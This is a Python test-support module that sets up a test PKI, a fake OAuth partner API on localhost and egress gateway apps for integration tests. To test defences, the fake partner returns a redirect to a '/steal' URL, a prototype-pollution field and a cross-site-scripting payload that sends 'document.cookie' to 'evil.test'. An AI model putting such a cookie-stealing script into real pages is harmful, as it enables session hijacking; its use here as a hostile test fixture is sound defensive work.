"""Integration support for the egress tests: test PKI, a fake partner API with its own OAuth token
endpoint, and a uvicorn-in-a-thread server on 127.0.0.1 port 0 (TLS, optional client-cert checking)."""

from __future__ import annotations

import asyncio
import base64
import datetime
import secrets
import ssl
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl

import orjson
import uvicorn
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from bastion.egress import signing
from bastion.webapp.app import AppRequest, AppResponse, Router, json_response
from bastion.webapp.asgi import to_asgi


def _name(cn: str) -> x509.Name:
    return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn)])


def _pem_key(key: ec.EllipticCurvePrivateKey) -> bytes:
    return key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                             serialization.NoEncryption())


def _cert(subject: str, key: ec.EllipticCurvePrivateKey, issuer: x509.Name, issuer_key: ec.EllipticCurvePrivateKey,
          *, ca: bool = False, dns: tuple[str, ...] = (), client: bool = False) -> x509.Certificate:
    now = datetime.datetime.now(datetime.UTC)
    b = (x509.CertificateBuilder().subject_name(_name(subject)).issuer_name(issuer).public_key(key.public_key())
         .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(minutes=5))
         .not_valid_after(now + datetime.timedelta(days=1))
         .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True))
    if ca:
        b = b.add_extension(x509.KeyUsage(digital_signature=True, content_commitment=False, key_encipherment=False,
                                          data_encipherment=False, key_agreement=False, key_cert_sign=True,
                                          crl_sign=True, encipher_only=False, decipher_only=False), critical=True)
        b = b.add_extension(x509.SubjectKeyIdentifier.from_public_key(key.public_key()), critical=False)
    else:
        b = b.add_extension(x509.AuthorityKeyIdentifier.from_issuer_public_key(issuer_key.public_key()),
                            critical=False)
    if dns:
        b = b.add_extension(x509.SubjectAlternativeName([x509.DNSName(d) for d in dns]), critical=False)
    if not ca:
        usage = x509.oid.ExtendedKeyUsageOID.CLIENT_AUTH if client else x509.oid.ExtendedKeyUsageOID.SERVER_AUTH
        b = b.add_extension(x509.ExtendedKeyUsage([usage]), critical=False)
    return b.sign(issuer_key, hashes.SHA256())


@dataclass
class Pki:
    dir: Path
    ca: Path
    server_cert: Path
    server_key: Path
    server_der: bytes
    client_cert: Path
    client_key_pem: str
    other_key_pem: str
    """A key that is not the server's (for pin-mismatch tests)."""


def make_pki(directory: Path, hosts: tuple[str, ...] = ("partner.test", "other.test")) -> Pki:
    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca = _cert("bastion test CA", ca_key, _name("bastion test CA"), ca_key, ca=True)
    srv_key = ec.generate_private_key(ec.SECP256R1())
    srv = _cert(hosts[0], srv_key, ca.subject, ca_key, dns=hosts)
    cli_key = ec.generate_private_key(ec.SECP256R1())
    cli = _cert("bastion-egress", cli_key, ca.subject, ca_key, client=True)
    paths = {n: directory / n for n in ("ca.pem", "srv.pem", "srv-key.pem", "cli.pem")}
    paths["ca.pem"].write_bytes(ca.public_bytes(serialization.Encoding.PEM))
    paths["srv.pem"].write_bytes(srv.public_bytes(serialization.Encoding.PEM))
    paths["srv-key.pem"].write_bytes(_pem_key(srv_key))
    paths["cli.pem"].write_bytes(cli.public_bytes(serialization.Encoding.PEM))
    other = ec.generate_private_key(ec.SECP256R1())
    return Pki(directory, paths["ca.pem"], paths["srv.pem"], paths["srv-key.pem"],
               srv.public_bytes(serialization.Encoding.DER), paths["cli.pem"], _pem_key(cli_key).decode(),
               _pem_key(other).decode())


@dataclass
class FakePartner:
    """A partner API: OAuth client-credentials token endpoint plus a few API operations."""

    client_id: str = "bastion"
    client_secrets: set[str] = field(default_factory=lambda: {"secret-v1"})
    token_lifetime: float = 60.0
    expires_in: int = 60
    token_delay: float = 0.0
    api_keys: set[str] = field(default_factory=set)
    hmac_keys: dict[str, bytes] = field(default_factory=dict)
    token_requests: int = 0
    api_requests: int = 0
    unauthorized: int = 0
    tokens: dict[str, float] = field(default_factory=dict)
    seen_headers: list[dict[str, str]] = field(default_factory=list)
    stalls: int = 0
    """How many of the next /api/stall requests get no answer for 3 s (a connection gone silent)."""
    stall_requests: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)

    def expire_all_tokens(self) -> None:
        with self.lock:
            self.tokens.clear()

    def app(self) -> Router:
        r = Router()
        r.add("POST", "/oauth/token", self._token)
        r.add("GET", "/api/orders/{order_id}", self._order)
        r.add("POST", "/api/charges", self._charge)
        r.add("GET", "/api/redirect-away", self._redirect_away)
        r.add("GET", "/api/redirect-home", self._redirect_home)
        r.add("GET", "/api/big", self._big)
        r.add("GET", "/api/slow", self._slow)
        r.add("GET", "/api/malicious", self._malicious)
        r.add("GET", "/api/signed", self._signed)
        r.add("GET", "/api/stall", self._stall)
        r.add("POST", "/api/stall", self._stall)
        return r

    async def _token(self, req: AppRequest) -> AppResponse:
        with self.lock:
            self.token_requests += 1
        if self.token_delay:
            await asyncio.sleep(self.token_delay)
        form = dict(parse_qsl(req.body.decode()))
        cid, secret = form.get("client_id"), form.get("client_secret")
        auth = req.headers.get("authorization") or ""
        if auth.startswith("Basic "):
            cid, _, secret = base64.b64decode(auth[6:]).decode().partition(":")
        if form.get("grant_type") != "client_credentials" or cid != self.client_id \
                or secret not in self.client_secrets:
            return json_response({"error": "invalid_client"}, 401)
        token = secrets.token_urlsafe(16)
        with self.lock:
            self.tokens[token] = time.monotonic() + self.token_lifetime
        return json_response({"access_token": token, "token_type": "Bearer", "expires_in": self.expires_in})

    def _authorized(self, req: AppRequest) -> bool:
        self.seen_headers.append(dict(req.headers.items()))
        if self.api_keys:
            return req.headers.get("x-api-key") in self.api_keys
        auth = req.headers.get("authorization") or ""
        token = auth[7:] if auth.startswith("Bearer ") else ""
        with self.lock:
            self.api_requests += 1
            ok = self.tokens.get(token, 0.0) > time.monotonic()
            if not ok:
                self.unauthorized += 1
        return ok

    async def _order(self, req: AppRequest) -> AppResponse:
        if not self._authorized(req):
            return json_response({"error": "invalid_token"}, 401)
        return json_response({"id": req.params["order_id"], "amount": 1250, "currency": "EUR",
                              "internal_debug": {"db_host": "10.0.3.7", "query": "SELECT *"},
                              "__proto__": {"admin": True}},
                             headers=[("set-cookie", "partner_session=abc"), ("server", "partner/1.0"),
                                      ("etag", '"v1"')])

    async def _charge(self, req: AppRequest) -> AppResponse:
        if not self._authorized(req):
            return json_response({"error": "invalid_token"}, 401)
        received = orjson.loads(req.body) if req.body else {}
        return json_response({"id": "ch_1", "amount": received.get("amount", 0), "currency": "EUR",
                              "received_fields": sorted(received)})

    async def _redirect_away(self, req: AppRequest) -> AppResponse:
        return AppResponse(302, [("location", "https://other.test/steal")], b"")

    async def _redirect_home(self, req: AppRequest) -> AppResponse:
        return AppResponse(302, [("location", "/api/orders/redirected")], b"")

    async def _big(self, req: AppRequest) -> AppResponse:
        return json_response({"id": "x" * 200_000, "amount": 1, "currency": "EUR"})

    async def _slow(self, req: AppRequest) -> AppResponse:
        await asyncio.sleep(1.2)
        return json_response({"id": "late", "amount": 1, "currency": "EUR"})

    async def _stall(self, req: AppRequest) -> AppResponse:
        with self.lock:
            self.stall_requests += 1
            stall = self.stalls > 0
            self.stalls -= stall
        if stall:
            await asyncio.sleep(3)
        return json_response({"id": "s1", "amount": 1, "currency": "EUR"})

    async def _malicious(self, req: AppRequest) -> AppResponse:
        if not self._authorized(req):
            return json_response({"error": "invalid_token"}, 401)
        return json_response({"id": "o1", "amount": 5, "currency": "EUR",
                              "note": "<script>fetch('//evil.test/'+document.cookie)</script>"})

    async def _signed(self, req: AppRequest) -> AppResponse:
        target = req.path + (f"?{req.query_string}" if req.query_string else "")
        key_id = signing.verify(dict(req.headers.items()), req.method, target, req.body,
                                self.hmac_keys.get, time.time())
        if key_id is None:
            return json_response({"error": "bad_signature"}, 401)
        return json_response({"id": key_id, "amount": 0, "currency": "EUR"})


class _Server(uvicorn.Server):
    def install_signal_handlers(self) -> None:
        return None


@contextmanager
def serve(app: Any, pki: Pki | None = None, *, host: str = "127.0.0.1", port: int = 0,
          require_client_cert: bool = False) -> Iterator[int]:
    """Serve a webapp ``App`` on ``host``; yields the bound port."""
    kw: dict[str, Any] = {}
    if pki is not None:
        kw = {"ssl_certfile": str(pki.server_cert), "ssl_keyfile": str(pki.server_key)}
        if require_client_cert:
            kw.update(ssl_ca_certs=str(pki.ca), ssl_cert_reqs=ssl.CERT_REQUIRED)
    config = uvicorn.Config(to_asgi(app), host=host, port=port, log_level="error", lifespan="off",
                            access_log=False, **kw)
    server = _Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 10
    while not server.started:
        if time.monotonic() > deadline or not thread.is_alive():
            raise RuntimeError("test server did not start")
        time.sleep(0.01)
    try:
        yield server.servers[0].sockets[0].getsockname()[1]
    finally:
        server.should_exit = True
        thread.join(10)


# ---- bastion side -------------------------------------------------------------------------------

from bastion.chain.exchange import Principal  # noqa: E402
from bastion.clock import SYSTEM_CLOCK, Clock  # noqa: E402
from bastion.egress.build import build_egress  # noqa: E402
from bastion.egress.config import EgressSection  # noqa: E402
from bastion.egress.connector import Resolver, StaticResolver  # noqa: E402
from bastion.egress.gateway import EgressApp  # noqa: E402
from bastion.http.headers import Headers  # noqa: E402
from bastion.secrets.store import SecretStore  # noqa: E402

ORDER_SCHEMA = {
    "type": "object",
    "required": ["id", "amount", "currency"],
    "properties": {
        "id": {"type": "string", "maxLength": 64},
        "amount": {"type": "integer"},
        "currency": {"type": "string", "pattern": "^[A-Z]{3}$"},
        "note": {"type": "string", "maxLength": 500},
        "received_fields": {"type": "array", "items": {"type": "string"}},
    },
}


class AuditList(list[dict[str, Any]]):
    async def __call__(self, record: dict[str, Any]) -> None:
        self.append(record)


async def make_app(pki: Pki, port: int, store: SecretStore | None, *, credential: dict[str, Any] | None = None,
                   resolver: Resolver | None = None, clock: Clock = SYSTEM_CLOCK, audit: AuditList | None = None,
                   host: str = "partner.test", credential_cache: float = 5.0, openapi: dict[str, Any] | None = None,
                   **partner: Any) -> EgressApp:
    cfg: dict[str, Any] = {
        "url": f"https://{host}:{port}/api",
        "callers": ["orders-svc"],
        "allow_networks": ["127.0.0.1/32"],
        "credential": credential or {"kind": "oauth2", "token_url": f"https://{host}:{port}/oauth/token",
                                     "client_id": "bastion", "client_secret": "${secret:partner.client_secret}",
                                     "refresh_before": "5s"},
        "tls": {"ca": str(pki.ca)},
        "timeouts": {"connect": "5s", "read": "5s", "total": "15s"},  # generous: CI machines stall
        "response": {"schema": ORDER_SCHEMA},
    }
    cfg.update(partner)
    section = EgressSection.model_validate({"partners": {"partner": cfg}, "credential_cache": credential_cache})
    service = await build_egress(section, store=store, clock=clock, audit=audit, openapi=openapi,
                                 resolver=resolver or StaticResolver({host: ["127.0.0.1"]}))
    return EgressApp(service)


async def call(app: EgressApp, method: str, path: str, *, subject: str = "orders-svc", body: bytes = b"",
               headers: tuple[tuple[str, str], ...] = (), query: str = "") -> AppResponse:
    full = f"/egress/partner{path}"
    hdrs = Headers([*headers, ("x-request-id", "rid-1")])
    return await app.handle(AppRequest(method=method, path=full, query_string=query, headers=hdrs, body=body,
                                       principal=Principal(subject, "jwt")))


class Apps:
    """Builds egress apps for one test and closes their connection pools afterwards."""

    def __init__(self) -> None:
        self.built: list[EgressApp] = []

    async def __call__(self, pki: Pki, port: int, store: SecretStore | None, **kw: Any) -> EgressApp:
        app = await make_app(pki, port, store, **kw)
        self.built.append(app)
        return app

    async def aclose(self) -> None:
        for app in self.built:
            await app.service.aclose()

